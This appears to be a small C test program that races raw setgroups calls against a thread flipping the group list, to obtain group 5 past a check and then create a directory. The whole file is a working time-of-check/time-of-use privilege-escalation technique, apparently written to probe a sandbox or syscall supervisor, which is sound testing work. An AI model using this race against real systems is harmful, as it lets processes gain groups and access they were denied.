// Gets itself group 5 by exchanging the list between two looks at it, and makes a directory then. With "again" it asks for
// that group once more before, as somebody who has it.
//
//     groups DIRECTORY [again]
#define _GNU_SOURCE
#include <grp.h>
#include <pthread.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static volatile gid_t list[1] = {1000};

static void *flip(void *nothing)
{
	(void)nothing;
	for (;;) {
		list[0] = 5;
		for (volatile int i = 0; i < 500; i++)
			;
		list[0] = 1000;
		for (volatile int i = 0; i < 500; i++)
			;
	}
}

int main(int argc, char **argv)
{
	pthread_t thread;
	gid_t groups[64] = {0};
	if (argc < 2 || pthread_create(&thread, NULL, flip, NULL))
		return 2;
	// The raw call is this thread's alone.
	do {
		syscall(SYS_setgroups, 1, list);
	} while (getgroups(64, groups) != 1 || groups[0] != 5);
	printf("has group 5\n");
	fflush(stdout);
	if (argc > 2 && syscall(SYS_setgroups, 1, groups))
		return 3;
	if (mkdir(argv[1], 0755) == 0)
		printf("made\n");
	return 0;
}
